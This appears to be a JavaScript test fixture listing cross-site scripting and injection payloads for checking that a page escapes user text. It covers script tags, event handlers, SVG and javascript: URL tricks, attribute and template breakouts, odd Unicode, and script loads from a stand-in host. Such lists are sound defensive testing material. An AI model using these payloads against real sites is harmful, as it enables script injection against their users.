// Text that takes a page over if it is written where it should be escaped.

const OVERLONG = 20_000;

export const PAYLOADS = [
  // Elements.
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<form action=javascript:alert(1)><button autofocus>go</button></form>",
  "<template><script>alert(1)</script></template>",
  "<plaintext>",
  // Handlers.
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1) //",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>",
  "<p style=animation-name:x onanimationstart=alert(1)>",
  // SVG and MathML.
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>go</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  // URLs.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/",
  "/\\evil.example/",
  // Out of an attribute.
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "` onmouseover=alert(1) `",
  "x onfocus=alert(1) autofocus tabindex=1",
  // Out of other contexts.
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><img src=x onerror=alert(1)>",
  "</style><img src=x onerror=alert(1)>",
  "<!--",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&",
  // Out of a script or a template.
  "'-alert(1)-'",
  '"-alert(1)-"',
  "\\\"-alert(1)//",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "\u2028alert(1)\u2029",
  "__proto__",
  "constructor",
  // Text that is odd by itself.
  "user\u202Egnp.exe",
  "\u2066\u2067\u061C\u200F<img src=x onerror=alert(1)>",
  "\u0000<script>alert(1)</script>",
  "\u0007\u0008\u001B[31m\u007F\u0085<script>alert(1)</script>",
  "\uFEFF<script>alert(1)</script>",
  "\uFFFE\u{10FFFF}\u{1F480}<img src=x onerror=alert(1)>",
  "e\u0301".repeat(40),
  "a\rb\nc\r\nd\te",
  "=HYPERLINK(\"http://evil.example\")",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "A".repeat(OVERLONG),
  "<b>".repeat(OVERLONG / 10),
];

/** As a page's text holds what was sent: reading HTML leaves NULs out, and makes line feeds of line ends. */
export function asText(sent) {
  return sent.replaceAll("\0", "").replace(/\r\n?/g, "\n");
}

/** The longest start that has at most this many bytes. */
export function cut(text, bytes) {
  const kept = new TextEncoder().encode(text).subarray(0, bytes);
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(kept).replace(/\uFFFD+$/, "");
}
